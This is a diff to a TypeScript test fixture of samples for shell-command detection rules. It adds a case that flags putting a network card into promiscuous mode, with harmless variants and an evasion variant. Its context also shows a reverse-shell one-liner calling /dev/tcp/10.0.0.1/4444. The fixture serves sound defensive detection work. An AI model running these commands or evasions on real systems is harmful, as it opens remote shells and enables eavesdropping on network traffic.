@@ -2,6 +2,14 @@ import type { RuleSample } from './rule-sample.fixture.ts'
 
 export const networkSamples: RuleSample[] = [
   {
+    rule: 'bash/listen-to-network',
+    dangerous: 'ifconfig eth0 promisc',
+    found: 'ifconfig eth0 promisc',
+    severity: 'high',
+    harmless: 'ifconfig eth0 -promisc; ip link set eth0 promisc off; ip link show',
+    evasion: 'card=eth0; ip link set "$card" promisc on',
+  },
+  {
     rule: 'bash/reverse-shell',
     dangerous: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
     found: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
